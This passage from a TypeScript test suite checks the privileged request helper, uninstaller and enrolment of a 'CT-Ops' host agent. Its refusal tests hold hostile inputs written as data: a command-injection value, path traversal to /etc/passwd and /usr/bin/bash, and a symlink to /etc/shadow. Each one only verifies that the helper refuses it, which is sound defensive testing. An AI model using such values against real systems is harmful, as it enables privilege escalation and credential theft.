      chmodSync(root.at('usr/bin/systemd-run'), 0o755);
    });

    test('with no request it does nothing', () => {
      const result = helper();
      assert.equal(result.code, 0, result.stderr);
      assert.ok(!existsSync(root.at('var/lib/ct-ops/requests/result')));
    });

    const refusals: Array<[string, string, RegExp]> = [
      ['shell code', '$(touch /tmp/pwned)', /refused unexpected-characters/],
      ['an unknown verb', 'reboot', /refused unknown-verb/],
      ['two lines', 'uninstall\nupdate x y', /refused more-than-one-line/],
      ['uninstall with an argument that is not a task id', 'uninstall now', /refused malformed-task-id/],
      ['uninstall with a task id and more', 'uninstall tsk_0123 now', /refused malformed-task-id/],
      ['uninstall with a task id that is a path', 'uninstall tsk_../../../etc/passwd', /refused malformed-task-id/],
      ['the old update form (a path and a sha256)', `update /var/lib/ct-ops/requests/agent-v2 ${'a'.repeat(64)}`, /refused update-needs-release-file/],
      ['an update naming no file', 'update', /refused update-needs-release-file/],
      ['an update naming a path outside the spool', 'update ../../../usr/bin/bash', /refused not-a-release-file/],
      ['an update naming two files', 'update ct-ops-agent-linux-x64 ct-ops-agent-linux-arm64', /refused update-needs-release-file/],
      ['an overlong request', `update ${'a'.repeat(2000)}`, /refused too-long/],
    ];
    for (const [what, text, expected] of refusals) {
      test(`a request with ${what} is refused, consumed and reported`, () => {
        request(text);
        const result = helper();
        assert.equal(result.code, 1, result.stdout + result.stderr);
        assert.match(resultFile(), expected);
        assert.ok(!existsSync(root.at('var/lib/ct-ops/requests/request')), 'consumed');
        assert.equal(readFileSync(root.at('usr/local/bin/ct-ops-agent'), 'utf8'), standInAgent('v1'));
        assertNotPwned(root);
      });
    }

    test('a request that is a symbolic link (to a root-only file) is refused without reading it', () => {
      symlinkSync('/etc/shadow', root.at('var/lib/ct-ops/requests/request'));
      const result = helper();
      assert.equal(result.code, 1);
      assert.match(resultFile(), /refused not-a-regular-file/);
      assert.ok(!result.stdout.includes('root:'), 'shadow content never echoed');
    });

    test('uninstall [task_id] starts the installed uninstaller in its own uniquely named transient unit (systemd-run --no-block --collect) with a private log, and answers "ok" only after', () => {
      mkdirSync(root.at('run/systemd/system'), { recursive: true });
      try {
        rmSync(root.at('var/lib/ct-ops/requests/result'), { force: true });
        request('uninstall\n');
        const result = helper();
        assert.equal(result.code, 0, result.stdout + result.stderr);
        const args = calls('systemd-run').trim().split('\n');
        assert.ok(args.includes('--no-block') && args.includes('--collect'), args.join(' '));
        assert.deepEqual(args.slice(-2), ['/bin/sh', '/usr/local/libexec/ct-ops/uninstall.sh']);
        assert.ok(args.includes('--property=StandardOutput=append:/var/log/ct-ops-uninstall.log'));
        assert.ok(args.some((arg) => /^--unit=ct-ops-uninstall-manual-\d+-\d+$/.test(arg)), args.join(' '));
        assert.deepEqual(mode(root, 'var/log/ct-ops-uninstall.log'), { mode: '0600', uid: 0, gid: 0 });
        assert.equal(resultFile(), 'uninstall ok');
        assert.match(result.stdout, /answered: uninstall ok/);
        // With a task id (remote uninstall), the uninstaller reports that task when it is done.
        rmSync(root.at('var/log/stub-systemd-run.calls'));
        rmSync(root.at('var/lib/ct-ops/requests/result'));
        request('uninstall tsk_0123456789abcdef0123\n');
        assert.equal(helper().code, 0);
        const taskArgs = calls('systemd-run').trim().split('\n');
        assert.deepEqual(taskArgs.slice(-4), ['/bin/sh', '/usr/local/libexec/ct-ops/uninstall.sh', '--report-task', 'tsk_0123456789abcdef0123']);
        assert.ok(taskArgs.some((arg) => /^--unit=ct-ops-uninstall-tsk_0123456789abcdef0123-\d+-\d+$/.test(arg)), taskArgs.join(' '));
        assert.equal(resultFile(), 'uninstall ok');
        // Both times systemd-run ran before there was any answer.
        assert.deepEqual(calls('systemd-run-answer').trim().split('\n'), ['unanswered', 'unanswered']);
      } finally {
        rmSync(root.at('run/systemd'), { recursive: true, force: true });
        rmSync(root.at('var/log/stub-systemd-run-answer.calls'), { force: true });
      }
    });

    test('an uninstaller that cannot be started (systemd-run fails) is answered "uninstall refused start-failed", never "ok", with exit 1', () => {
      mkdirSync(root.at('run/systemd/system'), { recursive: true });
      writeFileSync(root.at('var/log/stub-systemd-run-fails'), '');
      try {
        rmSync(root.at('var/lib/ct-ops/requests/result'), { force: true });
        request('uninstall tsk_0123456789abcdef0123\n');
        const result = helper();
        assert.equal(result.code, 1, result.stdout + result.stderr);
        assert.equal(resultFile(), 'uninstall refused start-failed');
        assert.match(result.stdout, /refused: start-failed/);
        assert.doesNotMatch(result.stdout, /answered: uninstall ok/);
        assert.match(result.stderr, /Failed to start transient service unit/);
        assert.deepEqual(calls('systemd-run-answer').trim().split('\n'), ['unanswered']);
        assert.ok(!existsSync(root.at('var/lib/ct-ops/requests/request')), 'consumed');
        assert.equal(readFileSync(root.at('usr/local/bin/ct-ops-agent'), 'utf8'), standInAgent('v1'), 'nothing removed');
      } finally {
        rmSync(root.at('var/log/stub-systemd-run-fails'), { force: true });
        rmSync(root.at('var/log/stub-systemd-run-answer.calls'), { force: true });
        rmSync(root.at('run/systemd'), { recursive: true, force: true });
      }
    });

    test('without systemd as PID 1, uninstall falls back to setsid and the detached uninstaller really removes the agent', async () => {
      request('uninstall\n');
      const result = helper();
      assert.equal(result.code, 0, result.stdout + result.stderr);
      await waitFor('the detached uninstaller to finish', () => /CT-Ops agent removed/.test(readFileSync(root.at('var/log/ct-ops-uninstall.log'), 'utf8')), 30_000);
      assert.ok(!existsSync(root.at('usr/local/bin/ct-ops-agent')));
      assert.ok(!existsSync(root.at('var/lib/ct-ops')));
      assert.equal(root.account('ct-ops'), undefined);
      assert.equal(mode(root, 'var/log/ct-ops-uninstall.log').mode, '0600');
    });
  });

  describe('the installed agent enrols with a real appliance', () => {
    let appliance: TestAppliance;
    let root: TestRoot;
    before(async () => {
      appliance = await TestAppliance.start();
      root = newRoot();
    });
    after(async () => {
      await appliance?.dispose();
    });

    /**
     * The real linux-x64 single executable when the agent build produced one; otherwise, until it
     * does, a two-line launcher that runs this machine's node on dist/ct-ops-agent.cjs copied into
     * the root (same agent code, not the same packaging).
     */
    function agentExecutable(t: TestContext): Buffer | string {
      const versions = existsSync(join(REPO_ROOT, 'dist/agents')) ? readdirSync(join(REPO_ROOT, 'dist/agents')).sort() : [];
      const sea = versions.map((version) => `dist/agents/${version}/ct-ops-agent-linux-x64`).filter((path) => existsSync(join(REPO_ROOT, path))).at(-1);
      if (sea) {
        t.diagnostic(`agent: single executable ${sea}`);
        return readFileSync(join(REPO_ROOT, sea));
      }
      t.diagnostic('agent: NO single executable in dist/agents/*/ (npm run build:agents -- --target linux-x64); using node + dist/ct-ops-agent.cjs inside the root instead');
      mkdirSync(root.at('opt/ct-ops-test'), { recursive: true });
      copyFileSync(process.execPath, root.at('opt/ct-ops-test/node'));
      chmodSync(root.at('opt/ct-ops-test/node'), 0o755);
      copyFileSync(AGENT_BIN, root.at('opt/ct-ops-test/ct-ops-agent.cjs'));
      return '#!/bin/sh\nexec /opt/ct-ops-test/node /opt/ct-ops-test/ct-ops-agent.cjs "$@"\n';
    }

    test('installed by install.sh and run as ct-ops from the installed config, it passes -check, enrols and streams heartbeats', async (t) => {
      const { token } = await appliance.createToken('--auto-approve');
      const bundle = bundleIn(root, { agent: agentExecutable(t), agentToml: agentToml(`127.0.0.1:${appliance.grpcPort}`, token), caCert: appliance.caCert });
      const installed = install(root, bundle, '--no-start');
      assert.equal(installed.code, 0, installed.stdout + installed.stderr);
      root.mountProc();
      const account = root.account('ct-ops')!;
      const userspec = `${account.uid}:${account.gid}`;

      const check = root.run(['/usr/local/bin/ct-ops-agent', '-check', '-config', '/etc/ct-ops/agent.toml'], { userspec, timeoutMs: 60_000 });
      assert.equal(check.code, 0, check.stdout + check.stderr);

      const agent = root.spawn(['/usr/local/bin/ct-ops-agent', '-config', '/etc/ct-ops/agent.toml'], { userspec });
      try {
        await agent.waitForLog('heartbeat stream opened', {}, 60_000);
        const state = JSON.parse(readFileSync(root.at('var/lib/ct-ops/agent/agent_state.json'), 'utf8')) as { agent_id: string };
        await waitFor('the host online', async () => (await appliance.host(state.agent_id)).status === 'online', 20_000);
        for (const file of ['agent_key.pem', 'agent_state.json']) {
          assert.deepEqual(mode(root, `var/lib/ct-ops/agent/${file}`), { mode: '0600', uid: account.uid, gid: account.gid }, file);
        }
        assert.ok(!agent.stdout.includes(token), 'the token never appears in the log');
        assertNotPwned(root);
      } finally {
        await agent.stop();
      }
    });
  });
});
